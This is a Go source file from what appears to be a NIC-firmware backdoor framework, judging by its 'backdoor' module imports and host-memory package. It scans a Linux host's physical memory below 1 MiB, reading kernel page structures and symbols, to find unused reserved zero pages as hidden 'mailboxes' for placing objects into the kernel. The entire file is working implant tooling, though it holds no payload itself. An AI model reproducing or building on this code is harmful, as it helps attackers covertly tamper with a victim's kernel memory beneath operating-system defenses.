package heal

import (
	"fmt"

	"github.com/backdoor-rhs/backdoor/agent/kernel"
	"github.com/backdoor-rhs/backdoor/nicfw/hostmem"
)

// mailbox is a page of host memory that the kernel has mapped but never uses, in which objects for it can be laid.
type mailbox struct {
	pa hostmem.PhysAddr
	va kernel.VirtAddr // in the direct map
	// flags is where the page's struct page.flags is, and what it holds.
	flagsVA kernel.VirtAddr
	flagsPA hostmem.PhysAddr
	flags   uint64
}

// The first MiB is reserved as a whole since v5.13 (commit f1d4d47c5851, "x86/setup: Always reserve the first 1M of RAM"),
// but stays in the direct map. Page 0 has the BIOS's data, and from the extended BIOS data area on firmware may look at what
// is there.
const (
	mailboxFirst = hostmem.PhysAddr(0x2000)
	mailboxEnd   = hostmem.PhysAddr(0x9f000)
	// realModeSize is left free behind real_mode_header, where the start-up code for other CPUs lies.
	realModeSize = 32 << 10
)

// findMailbox returns one mailbox.
func findMailbox(m model) (mailbox, error) {
	boxes, err := findMailboxes(m, 1)
	if err != nil {
		return mailbox{}, err
	}
	return boxes[0], nil
}

// findMailboxes returns the first pages below 1 MiB that are RAM for the kernel, that their struct pages call reserved, that
// are all zero, and that are not part of the real-mode trampoline: most of them at most, and at least one.
func findMailboxes(m model, most int) ([]mailbox, error) {
	pages, err := newReservedPages(m)
	if err != nil {
		return nil, fmt.Errorf("find a mailbox: %w", err)
	}
	var boxes []mailbox
	page := make([]byte, hostmem.PageSize)
	for pa := mailboxFirst; pa < mailboxEnd; pa += hostmem.PageSize {
		box, ok := pages.at(m, pa)
		if !ok || m.ReadVirt(box.va, page) != nil || !zero(page) {
			continue
		}
		if boxes = append(boxes, box); len(boxes) == most {
			return boxes, nil
		}
	}
	if len(boxes) > 0 {
		return boxes, nil
	}
	return nil, fmt.Errorf("no free reserved page below 1 MiB: %w", kernel.ErrNotFound)
}

// reservedPages tells which pages below 1 MiB the kernel gives to nobody.
type reservedPages struct {
	pageSize, flags, direct, vmemmap uint64
	reserved                         int64 // PG_reserved
	trampoline                       hostmem.Range
	ram                              []hostmem.Range
}

func newReservedPages(m model) (p reservedPages, err error) {
	l := layout{m: m}
	p.pageSize = l.sizeof("page")
	p.flags = l.field("page", "flags", 8)
	if l.err != nil {
		return p, l.err
	}
	if p.reserved, err = m.Enum("pageflags", "PG_reserved"); err != nil {
		return p, err
	}
	if p.reserved < 0 || p.reserved > 63 {
		return p, fmt.Errorf("PG_reserved is %d: %w", p.reserved, kernel.ErrNotSupported)
	}
	if p.direct, err = symbolValue(m, "page_offset_base"); err != nil {
		return p, err
	}
	if p.vmemmap, err = symbolValue(m, "vmemmap_base"); err != nil {
		return p, err
	}
	realMode, err := symbolValue(m, "real_mode_header")
	if err != nil {
		return p, err
	}
	p.trampoline = hostmem.Range{Start: hostmem.PhysAddr(realMode - p.direct), Size: realModeSize}
	p.ram = m.RAM()
	return p, nil
}

// at returns a page as a mailbox if it is one of them. What is in it is not looked at.
func (p *reservedPages) at(m model, pa hostmem.PhysAddr) (mailbox, bool) {
	box := mailbox{pa: pa, va: kernel.VirtAddr(p.direct + uint64(pa))}
	if !inRanges(p.ram, pa, hostmem.PageSize) || pa+hostmem.PageSize > p.trampoline.Start && pa < p.trampoline.End() {
		return box, false
	}
	box.flagsVA = kernel.VirtAddr(p.vmemmap + uint64(pa)/hostmem.PageSize*p.pageSize + p.flags)
	var err error
	if box.flags, err = read64(m, box.flagsVA); err != nil || box.flags>>p.reserved&1 == 0 {
		return box, false
	}
	if box.flagsPA, err = m.Phys(box.flagsVA); err != nil {
		return box, false
	}
	got, err := m.Phys(box.va)
	return box, err == nil && got == pa
}

func inRanges(rs []hostmem.Range, pa hostmem.PhysAddr, n uint64) bool {
	for _, r := range rs {
		if r.Contains(pa, n) {
			return true
		}
	}
	return false
}

func zero(b []byte) bool {
	for _, c := range b {
		if c != 0 {
			return false
		}
	}
	return true
}
